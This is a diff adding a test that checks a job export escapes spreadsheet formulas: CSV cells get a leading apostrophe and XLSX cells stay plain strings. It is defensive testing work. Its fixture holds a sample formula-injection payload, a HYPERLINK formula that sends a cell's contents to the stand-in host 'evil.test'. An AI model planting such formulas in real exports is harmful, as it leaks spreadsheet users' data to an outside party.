@@ -268,5 +268,18 @@ describe.each(databaseKinds())('on %s', (kind) => {
       expect(rows[0]).toEqual([...BASE, '预算', '合同号', '优先级']);
       expect(rows.slice(1).map((r) => r[0])).toEqual([id('EB'), id('EA')]);
     });
+
+    test('text a spreadsheet would run as a formula (= + - @) is exported as text: an apostrophe first in CSV, a string cell in XLSX', async () => {
+      const formula = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';
+      await h.test.db.prisma.job.create({
+        data: { id: id('FX'), code: id('FX'), title: formula, sopKey: `export-${kind}`, sopVersion: 1, vendorOrgId: h.ids.orgs['Vendor A']!, ownerId: h.ids.users.owner!, workflowId: `wf-${id('FX')}`, status: 'stuck', fields: { contractNo: '@SUM(1+1)', priority: '-2+3' } },
+      });
+      const owner = await h.login('owner');
+      const rows = await csvOf(owner, '&status=stuck');
+      expect(rows.slice(1).map((r) => [r[0], r[1], r[10], r[11]])).toEqual([[id('FX'), `'${formula}`, `'@SUM(1+1)`, `'-2+3`]]);
+      const res = await binary(request(h.app).get('/api/jobs/export?format=xlsx&status=stuck').set(auth(owner)));
+      const xlsx = await xlsxRows(res.body as Buffer);
+      expect(xlsx[1]?.[1]).toBe(formula); // a plain string cell, never a formula
+    });
   });
 });
